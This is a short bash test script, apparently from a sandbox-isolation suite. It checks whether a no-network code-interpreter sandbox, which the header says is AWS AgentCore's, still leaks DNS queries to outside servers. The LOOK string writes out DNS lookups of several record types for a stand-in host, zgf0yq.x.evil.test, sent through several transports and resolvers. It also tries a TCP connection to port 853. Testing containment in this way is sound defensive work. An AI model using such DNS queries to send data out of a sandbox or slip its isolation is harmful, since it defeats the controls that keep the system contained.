#!/bin/bash
# AWS AgentCore code interpreter (March and April 2026): a sandbox without network still answered DNS, for any
# name, which is a channel in both directions.
# Escaped: a question of any kind, by any transport, reaches a DNS server outside.
# shellcheck disable=SC2317,SC2034
NEEDS="world nonet"
. "${0%/*}/../lib.sh"
prepare() { before=$(($(asked zgf0yq) + $(served '^udp:53\|:853'))); }
escaped() { settle; [ $(($(asked zgf0yq) + $(served '^udp:53\|:853'))) -gt "$before" ]; }
LOOK='for k in A AAAA TXT NULL HTTPS ANY; do python3 client.py dns $k zgf0yq.x.evil.test; done; python3 client.py dns A zgf0yq.x.evil.test tcp; python3 client.py dns A zgf0yq.x.evil.test @100.127.255.1; python3 client.py dns A zgf0yq.x.evil.test @93.184.216.66; python3 client.py tcp 93.184.216.66 853'
attack() { cp "$here/../net/client.py" "$WS"; inside "export SILENCE=2; sed -i 's/^PATIENCE = .*/PATIENCE = 3/' client.py; $LOOK"; }
attempt "without network"
attack() { cp "$here/../net/client.py" "$WS"; ALLOW=(ok.test '*.ok.test'); inside "export SILENCE=2; sed -i 's/^PATIENCE = .*/PATIENCE = 3/' client.py; $LOOK"; }
case " ${OFFERS[$SANDBOX]} " in *' netrules '*) attempt "with a host allowed" ;; esac
